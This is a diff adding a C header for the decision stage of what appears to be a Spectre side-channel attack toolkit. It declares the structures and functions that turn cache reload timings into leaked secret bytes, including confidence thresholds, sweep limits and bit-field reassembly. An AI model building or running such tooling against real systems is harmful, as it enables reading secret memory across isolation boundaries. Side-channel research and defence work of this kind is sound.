@@ -0,0 +1,67 @@
+#ifndef SPECTRE_DECISION
+#define SPECTRE_DECISION
+#include <stddef.h>
+#include <stdint.h>
+#include <stdbool.h>
+#include "spectre_probe.h"
+#include "pmu_events.h"
+
+/*
+ * Controls when we stop sweeping an offset and commit to a byte.
+*/
+typedef struct
+{
+    // a probe line counts as a hit when it reloads within this many cycles
+    uint64_t threshold;
+    // stop once the leader beats the runner up with at least this confidence (0.0 - 1.0)
+    double confidence;
+    // the leader needs at least this many hits before we stop
+    size_t min_hits;
+    // give up after this many sweeps and report the best candidate so far
+    size_t max_sweeps;
+} DecisionConfig;
+
+/*
+ * Evidence collected for one secret offset across sweeps.
+*/
+typedef struct
+{
+    size_t sweeps;
+    // candidates are 0 .. num_lines - 1 (fewer than PROBE_NUM_LINES when leaking a bit-field)
+    size_t num_lines;
+    // how often each candidate reloaded under the threshold
+    uint32_t hits[PROBE_NUM_LINES];
+    // sum of the latencies of those hits, used to break ties
+    uint64_t hit_latency[PROBE_NUM_LINES];
+} DecisionAccumulator;
+
+typedef struct
+{
+    // the leaked byte (the candidate with the most evidence)
+    uint8_t value;
+    // 1 - p-value of the leader having more hits than the runner up by chance
+    // (for bit-fields, the lowest over the byte's fields)
+    double confidence;
+    // number of sweeps it took (over all fields)
+    size_t sweeps;
+    // false if we ran out of sweeps before reaching the requested confidence (on any field)
+    bool decided;
+    // PMU events counted across all of this byte's sweeps
+    PmuSample events;
+} DecisionResult;
+
+DecisionConfig default_decision_config(uint64_t threshold);
+
+void decision_reset(DecisionAccumulator* acc, size_t num_lines);
+void decision_add_sweep(DecisionAccumulator* acc, const DecisionConfig* config, const uint64_t timings[PROBE_NUM_LINES]);
+DecisionResult decision_evaluate(const DecisionAccumulator* acc, const DecisionConfig* config);
+
+/*
+ * decide_byte
+ * sweeps offset until one candidate clearly wins or max_sweeps is reached.
+ * When probe->field_bits is set, every field of the byte is decided like that
+ * in turn (each with up to max_sweeps sweeps) and the fields are reassembled.
+*/
+DecisionResult decide_byte(const ProbeConfig* probe, const DecisionConfig* config, size_t offset);
+
+#endif